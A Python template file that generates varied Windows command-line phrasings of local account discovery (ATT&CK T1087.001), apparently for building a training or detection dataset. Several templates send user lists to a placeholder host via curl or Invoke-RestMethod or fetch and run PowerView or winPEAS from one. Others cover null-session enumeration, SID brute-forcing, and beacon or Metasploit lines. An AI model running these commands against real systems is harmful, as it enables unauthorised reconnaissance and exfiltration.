"""More phrasings of T1087.001 on Windows: every tool by several ways, so that a phrasing held out holds no new word."""

from __future__ import annotations

from training.generators.grammar import parse_templates

WINDOWS_ACCOUNT_TEMPLATES = parse_templates(
    r"""
net-user-to-share cmd: net user > \\‹server›\‹project›\‹name›.txt
net-user-append cmd: «net¦net.exe» user >> ‹file›
net-user-clip cmd: net user | clip
net-user-sort cmd: net user | sort > ‹file›
net-user-quoted cmd: cmd.exe /c "net user"
net-user-start cmd: start /b «/min ¦»net user«s¦»
net-user-echo cmd: «echo¦@echo» off & net user & net localgroup administrators
net-user-whoami cmd: whoami «&¦&&» hostname «&¦&&» «net user¦net users»
net-user-systeminfo cmd: systeminfo > ‹file› & net user >> ‹file›
net-user-named-for cmd: for /f %u in (‹name›.txt) do @net user %u >> ‹file›
net-user-named-findstr cmd: net user «‹user›¦administrator¦guest» | «findstr /c:"Password last set"¦findstr /i active¦find "Last logon"¦findstr Local»
net-user-task-remote cmd: schtasks /create /s ‹server› /u ‹user› /p ‹pass› /tn ‹name› /tr "net user" /sc onlogon
net-user-service cmd: sc \\‹server› create ‹name› binPath= "cmd /c net user > ‹dir›\‹name›.txt"
net-user-curl cmd: net user > ‹dir›\‹name›.txt & curl -F "file=@‹dir›\‹name›.txt" http://‹ip›/«upload¦u»
net-user-psexec-named cmd: «psexec¦PsExec64.exe¦paexec.exe» \\‹server› -u ‹domain›\‹user› -p ‹pass› net user «administrator¦‹user›¦guest»
net-user-winrs-out cmd: winrs -r:http://‹server›:5985 -u:‹user› -p:‹pass› "net user"
net-user-ssh cmd: ssh ‹user›@‹server› "net user«¦ administrator»"
net-user-python cmd: «python¦py -3» -c "import «os; os.system('net user')¦subprocess; print(subprocess.check_output('net user', shell=True).decode())»"
net-user-perl cmd: «perl¦ruby» -e "system('net user')"
net-user-sql cmd: sqlcmd -S ‹server› -Q "EXEC xp_cmdshell 'net user'"
net-user-java cmd: java -cp ‹name›.jar ‹Word› "cmd /c net user"
net-user-wsl cmd: wsl.exe -e /mnt/c/Windows/System32/net.exe user
net-user-ps-file powershell: «net user¦net.exe user¦net1 user» «> ‹file›¦| Out-File -FilePath ‹file›¦| Tee-Object ‹file›¦| Set-Content ‹file›»
net-user-ps-split powershell: (net user) -«split '\s+'¦match '\w'¦join ';'» | «select -Skip 4¦% { net user $_ }¦Out-String»
net-user-ps-start powershell: Start-Process «net¦net.exe¦net1.exe» -ArgumentList «user¦'user'¦"user"» -NoNewWindow -RedirectStandardOutput ‹file›
net-user-ps-invoke powershell: Invoke-Command -ComputerName ‹server› -ScriptBlock { net user«¦ administrator¦ guest» }
net-user-ps-iex powershell: «iex¦Invoke-Expression» «"net user"¦'net user'¦('net'+' user')»
net-user-ps-session powershell: $s = New-PSSession ‹server›; Invoke-Command $s { «net user¦Get-LocalUser¦gwmi Win32_UserAccount» }
net-user-ps-foreach powershell: '‹first›','‹user›','administrator' | «% { net user $_ }¦ForEach-Object { net user $_ | Out-String }»
net-user-ps-job powershell: Start-Job { «net user¦Get-LocalUser¦net users» } | Receive-Job -Wait
net-user-wsh text: CreateObject("WScript.Shell").Exec("net user").StdOut.ReadAll
net-user-xp text: EXEC master..xp_cmdshell 'net user«¦ administrator¦ guest»'
net-user-beacon text: «beacon> shell net user¦beacon> run net user¦meterpreter > execute -f net.exe -a "user" -i¦[*] Tasked beacon to run: net user»
wmic-useraccount-out cmd: «wmic¦wmic.exe» useraccount «list full¦get name,sid,disabled¦list brief» > ‹file›
wmic-useraccount-find cmd: wmic useraccount get name,sid,disabled | «findstr /i admin¦find "-500"¦more¦sort»
wmic-useraccount-chain cmd: whoami /user & wmic useraccount get name,sid
wmic-useraccount-format cmd: wmic useraccount «get¦list full» /format:«csv¦list¦htable¦table¦value»
wmic-useraccount-loop cmd: for /f "skip=1" %u in ('wmic useraccount get name') do @echo %u
wmic-useraccount-lockout cmd: wmic useraccount where "«lockout=true¦PasswordRequired=false¦Status='OK'¦passwordexpires=false»" get name,«sid¦domain¦status»
wmic-useraccount-psexec cmd: psexec \\‹server› -s wmic useraccount «list brief¦get name»
wmic-useraccount-path cmd: wmic path «win32_useraccount¦Win32_Account¦Win32_SystemAccount¦Win32_UserProfile¦Win32_NetworkLoginProfile» get «name,sid¦name¦*»
wmic-path-node cmd: wmic /node:@‹name›.txt path «Win32_UserAccount¦Win32_SystemAccount¦Win32_Account» where LocalAccount=TRUE get Name,SID
wmic-sysaccount-out cmd: wmic /output:‹file› sysaccount «get name,sid¦list full¦list brief»
wmic-sysaccount-node cmd: wmic /node:‹server› sysaccount get «name¦name,sid» /format:csv
wmic-sysaccount-find cmd: wmic sysaccount list brief | findstr /i «service¦system¦network»
wmic-sysaccount-chain cmd: wmic useraccount list brief & wmic sysaccount list brief
wmic-append cmd: wmic /append:‹file› «useraccount list brief¦sysaccount get name»
wmic-quiet cmd: wmic /failfast:on /node:‹server› useraccount where "SID like 'S-1-5-21%-500'" get name
dir-users-chain cmd: dir «c:\users¦%systemdrive%\Users¦"c:\documents and settings"» & net user
dir-users-out cmd: dir /b «C:\Users¦%SystemDrive%\Users¦"C:\Documents and Settings"» > ‹file›
dir-users-for cmd: for /d %u in («C:\Users¦%SystemDrive%\Users»\*) do @echo %~nxu
dir-users-documents cmd: cmd /c dir /a:d "«%SystemDrive%¦C:»\Documents and Settings"
dir-users-root cmd: cd /d C:\Users && dir /ad
ps-dir-profiles powershell: (Get-ChildItem «C:\Users¦"$env:SystemDrive\Users"¦'C:\Documents and Settings'» -Directory).Name
reg-profilelist-find cmd: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList" /s «| findstr ProfileImagePath¦/v ProfileImagePath¦/f S-1-5-21 /k»
reg-profilelist-remote cmd: reg query "\\‹server›\HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList" /s
reg-profilelist-out cmd: reg query "HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList" /s > ‹file›
ps-profile-image powershell: Get-ChildItem 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList' | % { $_.GetValue('ProfileImagePath') }
ps-profile-pschild powershell: (gp "Registry::HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList\S-1-5-21-*").ProfileImagePath
ps-profile-cim powershell: Get-CimInstance Win32_UserProfile | «? { -not $_.Special } ¦»| select LocalPath,«SID¦LastUseTime»
ps-profile-class powershell: gwmi -Class «Win32_UserProfile¦Win32_Account¦Win32_SystemAccount» -ComputerName ‹server› | select «LocalPath,SID¦Name,SID»
script-users cmd: «cscript¦cscript.exe //nologo¦wscript» ‹dir›\«getusers¦list_users¦enum_accounts¦localaccounts».«vbs¦js»
script-users-remote cmd: cscript //nologo \\‹server›\‹project›\«listusers¦users¦localusers».vbs
script-users-out cmd: cscript //B «enumusers¦listusers¦localusers¦users».vbs > ‹file›
script-vbs text: Set o = GetObject("WinNT://«.¦‹server›¦localhost»"): o.Filter = Array("user"): For Each u In o: WScript.Echo u.Name: Next
script-vbs-wmi text: For Each u In GetObject("winmgmts:\\.\root\cimv2").ExecQuery("Select * from Win32_UserAccount Where LocalAccount = True"): WScript.Echo u.Name: Next
enum-tool-psexec cmd: psexec \\‹server› -c ‹dir›\«lg¦userdump¦user2sid¦sid2user¦dumpusers¦enum».exe
enum-tool-out cmd: «lg.exe \\‹server› -lu¦userdump.exe \\‹ip› ‹user› 500¦dumpusers.exe -target ‹server› -type notdc¦enum.exe -U -c ‹server›¦user2sid.exe \\‹ip› administrator» > ‹file›
enum-tool-chain cmd: «user2sid¦user2sid.exe» \\‹ip› "domain users" & «sid2user¦sid2user.exe» \\‹ip› 5 21 ‹pid› ‹pid› ‹pid› 50«0¦1»
enum-tool-loop cmd: for /L %i in (1000,1,1050) do «sid2user.exe \\‹ip› 5 21 ‹pid› ‹pid› ‹pid› %i¦sid2user \\‹server› 5 21 ‹pid› ‹pid› ‹pid› %i >> ‹file›»
enum-tool-hosts cmd: for /f %h in (‹name›.txt) do «enum.exe -U %h¦lg.exe \\%h -lu¦userdump.exe \\%h¦dumpusers.exe -target %h -type notdc»
enum-tool-bare cmd: «dumpusers¦userdump¦user2sid¦sid2user¦getacct¦lg» \\‹ip›
enum-tool-start cmd: start /b ‹dir›\«dumpusers¦userdump¦getacct¦lg¦enum».exe \\‹server›
enum-tool-null cmd: net use \\‹ip›\IPC$ "" /u:"" & «enum -U ‹ip›¦dumpusers.exe -target ‹ip›¦userdump.exe \\‹ip›¦getacct.exe ‹ip›»
ps-localuser-sid powershell: Get-LocalUser | Select-Object «-Property ¦»Name,SID,«PasswordLastSet¦LastLogon¦Enabled»
ps-localuser-count powershell: (Get-LocalUser).«Name¦Count¦SID.Value»
ps-localuser-json powershell: Get-LocalUser | «ConvertTo-Json¦ConvertTo-Csv -NoTypeInformation¦ConvertTo-Html» | Out-File ‹file›
ps-localuser-csv powershell: Get-LocalUser | Export-Csv -Path ‹file› -NoTypeInformation
ps-localuser-sort powershell: Get-LocalUser | «Sort-Object LastLogon¦sort Name¦Group-Object Enabled»
ps-localuser-post powershell: «irm¦Invoke-RestMethod¦iwr» -Uri http://‹ip›/‹name› -Method Post -Body (Get-LocalUser | Out-String)
ps-localuser-module powershell: Import-Module Microsoft.PowerShell.LocalAccounts; Get-LocalUser
ps-localuser-admin powershell: Get-LocalUser | ? { (Get-LocalGroupMember Administrators).Name -like "*$($_.Name)" }
ps-localuser-cmd cmd: «powershell¦powershell.exe -nop¦pwsh -NoProfile» -«c¦Command» "«Get-LocalUser¦Get-LocalUser | fl *¦Get-WmiObject Win32_UserAccount¦glu»"
ps-localuser-hosts powershell: Get-Content ‹name›.txt | % { Invoke-Command -ComputerName $_ { Get-LocalUser } }
ps-localuser-alias powershell: «glu | ft¦glu | select Name¦glu -Name *adm*¦$u = glu; $u.Name»
ps-glu-out powershell: glu | «Out-File ‹file›¦Export-Csv ‹file›¦? Enabled»
ps-glu-remote powershell: «icm¦Invoke-Command» ‹server› { glu«¦ | fl *» }
ps-localuser-enter powershell: Enter-PSSession ‹server›; Get-LocalUser
ps-localuser-try powershell: try { Get-LocalUser -ErrorAction Stop } catch { «net user¦Get-WmiObject Win32_UserAccount» }
ps-localuser-required powershell: Get-LocalUser | Where-Object { -not $_.PasswordRequired -«or¦and» $_.Enabled }
ps-wmi-account-where powershell: Get-WmiObject Win32_UserAccount | «? { $_.PasswordRequired -eq $false }¦where Lockout -eq $true¦? { $_.PasswordExpires -eq $false }¦Where-Object {$_.Lockout}»
ps-wmi-account-searcher powershell: ([wmisearcher]"select * from «Win32_UserAccount¦Win32_SystemAccount¦Win32_Account» where LocalAccount=True").Get()
ps-wmi-account-class powershell: ([wmiclass]'«\\.\root\cimv2¦\\‹server›\root\cimv2»:«Win32_UserAccount¦Win32_Account¦Win32_SystemAccount»').GetInstances()
ps-wmi-account-session powershell: $c = New-CimSession ‹server›; Get-CimInstance -CimSession $c -ClassName «Win32_UserAccount¦Win32_UserProfile¦Win32_SystemAccount»
ps-cim-query powershell: Get-CimInstance -Query "select Name,SID from Win32_UserAccount where «LocalAccount=True¦Disabled=False¦SID like '%-500'»"
ps-wmi-sid powershell: gwmi win32_useraccount -Filter "SID like 'S-1-5-%-500'" | select Name
ps-adsi-users powershell: $c = [ADSI]"WinNT://«.¦$env:COMPUTERNAME¦‹server›»"; $c.Children | ? SchemaClassName -eq User | % { $_.«Name¦Path» }
ps-adsi-filter powershell: ([ADSI]"WinNT://‹server›,computer").psbase.Children | ? { $_.psbase.SchemaClassName -eq 'user' } | «select Name¦ft Name¦% Name»
ps-adsi-enum powershell: foreach ($u in ([ADSI]"WinNT://localhost").Children) { if ($u.SchemaClassName -eq 'User') { $u.Name } }
ps-adsi-named powershell: [ADSI]"WinNT://«.¦$env:COMPUTERNAME»/«Administrator¦‹user›»,user" | select *
ps-adsi-foreach powershell: Get-Content ‹name›.txt | % { ([ADSI]"WinNT://$_").Children | ? { $_.SchemaClassName -eq 'user' } }
ps-principal-find powershell: Add-Type -AssemblyName System.DirectoryServices.AccountManagement; [DirectoryServices.AccountManagement.UserPrincipal]::FindByIdentity([DirectoryServices.AccountManagement.ContextType]::Machine, '«Administrator¦‹user›»')
ps-principal-search powershell: $p = New-Object DirectoryServices.AccountManagement.UserPrincipal((New-Object DirectoryServices.AccountManagement.PrincipalContext 'Machine')); (New-Object DirectoryServices.AccountManagement.PrincipalSearcher $p).FindAll() | select SamAccountName
ps-principal-foreach powershell: $c = [System.DirectoryServices.AccountManagement.PrincipalContext]::new('Machine', $env:COMPUTERNAME); $s = [System.DirectoryServices.AccountManagement.PrincipalSearcher]::new(); $s.QueryFilter = [System.DirectoryServices.AccountManagement.UserPrincipal]::new($c); $s.FindAll().Name
ps-principal-load powershell: [void][Reflection.Assembly]::LoadWithPartialName('System.DirectoryServices.AccountManagement'); $s = New-Object System.DirectoryServices.AccountManagement.PrincipalSearcher; $s.QueryFilter = New-Object System.DirectoryServices.AccountManagement.UserPrincipal($ctx); $s.FindAll()
ps-netuserenum powershell: [«Netapi32¦Win32¦‹Word›»]::NetUserEnum($null, 0, 2, [ref]$buf, -1, [ref]$r, [ref]$t, [ref]$h)
ps-netuserenum-type powershell: Add-Type -MemberDefinition '[DllImport("netapi32.dll")] public static extern int NetUserEnum(string s, int l, int f, out IntPtr b, int m, out int r, out int t, int h);' -Name ‹Word› -Namespace Win32
netuserenum-python cmd: «python¦py» -c "import win32net; print(win32net.NetUserEnum(«None¦'‹server›'», 0))"
netuserenum-beacon text: «beacon¦sliver (‹word›)¦[server] sliver (‹word›)» > «inline-execute ¦»netuserenum«.o¦ \\‹server›¦»
netuserenum-tool cmd: ‹dir›\«NetUserEnum¦netuserenum».exe «\\‹server›¦localhost¦»
ps-powerview-local powershell: «Get-NetLocalUser -ComputerName ‹server›¦Import-Module .\PowerView.ps1; Get-NetLocalUser¦IEX (iwr http://‹ip›/PowerView.ps1); Get-NetLocalUser¦Get-NetLocalUser | select UserName,SID»
sharpview-local cmd: ‹dir›\SharpView.exe Get-NetLocalUser -ComputerName ‹server›
ps-winpeas powershell: «.\winPEASx64.exe userinfo¦iex(iwr http://‹ip›/winPEAS.ps1) userinfo¦& ‹dir›\winPEASany.exe quiet userinfo»
winpeas-user cmd: «‹dir›\¦»winPEAS«x64¦any¦».exe «quiet ¦»userinfo«¦ > ‹file›»
seatbelt-remote cmd: ‹dir›\Seatbelt.exe -computername=‹server› LocalUsers
seatbelt-execute text: execute-assembly «/opt/¦‹ldir›/»Seatbelt.exe «LocalUsers¦-group=user LocalUsers»
seatbelt-full cmd: Seatbelt.exe -q LocalUsers -full -outputfile="‹dir›\‹name›.json"
seatbelt-ps powershell: [Seatbelt.Program]::Main("LocalUsers«¦ LocalGroups»".Split())
gui-lusrmgr cmd: mmc.exe lusrmgr.msc /computer:‹server› & net user
post-metasploit text: «meterpreter > run post/windows/gather/enum_logged_on_users; shell net user¦msf6 > use auxiliary/scanner/smb/smb_enumusers¦msf6 > use post/windows/gather/local_admin_search_enum; net user¦meterpreter > run post/linux/gather/enum_users_history; cat /etc/passwd»
msf-enumusers bash: msfconsole -q -x "use auxiliary/scanner/smb/«smb_enumusers¦smb_lookupsid»; set RHOSTS ‹ip›; run"
msf-enumusers-file text: auxiliary/scanner/smb/«smb_enumusers¦smb_lookupsid» RHOSTS=‹ip› SMBUser=‹user›
sharpview-users cmd: «SharpView¦‹dir›\SharpView».exe Get-NetLocalUser«¦ > ‹file›»
sharpview-users-ps powershell: [SharpView.Program]::Main(@("Get-NetLocalUser"«,"-ComputerName","‹server›"¦»))
sharpview-users-execute text: execute-assembly ‹ldir›/SharpView.exe Get-NetLocalUser -ComputerName ‹server›
sharpview-users-run powershell: & ‹dir›\SharpView.exe Get-NetLocalUser
ps-searcher-users powershell: ([wmisearcher]'select Name,SID from Win32_«UserAccount where Disabled=False¦UserAccount where Lockout=True¦NetworkLoginProfile»').Get() | select Name
ps-searcher-scope powershell: $s = [wmisearcher]"Select * From Win32_UserAccount Where LocalAccount=True"; $s.Scope = "\\‹server›\root\cimv2"; $s.Get()
ps-wmiclass-users powershell: ([wmiclass]"Win32_«UserAccount¦NetworkLoginProfile¦SystemAccount»").GetInstances() | ft Name
ps-login-profile powershell: «Get-CimInstance¦gwmi» Win32_NetworkLoginProfile | select Name,LastLogon
ps-login-profile-remote powershell: Get-WmiObject Win32_NetworkLoginProfile -ComputerName ‹server›
login-profile-wmic cmd: wmic netlogin get name,lastlogon & wmic path Win32_NetworkLoginProfile get Name
ps-psbase powershell: ([ADSI]"WinNT://.").psbase.Children | ? { $_.SchemaClassName -eq 'User' } | % Name
ps-psbase-foreach powershell: foreach ($c in ([ADSI]"WinNT://‹server›").psbase.Children) { if ($c.psbase.SchemaClassName -eq 'user') { $c.Name } }
ps-psbase-properties powershell: ([ADSI]"WinNT://$env:COMPUTERNAME").psbase.Children | ? SchemaClassName -eq user | % { $_.psbase.Properties.Name }
enum-tool-getacct cmd: getacct«.exe¦» \\‹ip› «> ‹file›¦500¦»
enum-tool-winrs cmd: winrs -r:‹server› "C:\Temp\«getacct¦dumpusers¦lg¦userdump».exe"
lusrmgr-users cmd: lusrmgr.msc /computer=‹server› & wmic useraccount list brief
winpeas-users-execute text: execute-assembly ‹ldir›/winPEAS«any¦x64».exe «quiet ¦»userinfo
osquery-users-ps powershell: & "C:\Program Files\osquery\osqueryi.exe" --json "select username from users"
xp-users text: EXEC xp_cmdshell '«wmic useraccount get name¦dir C:\Users¦net users»'
"""
)
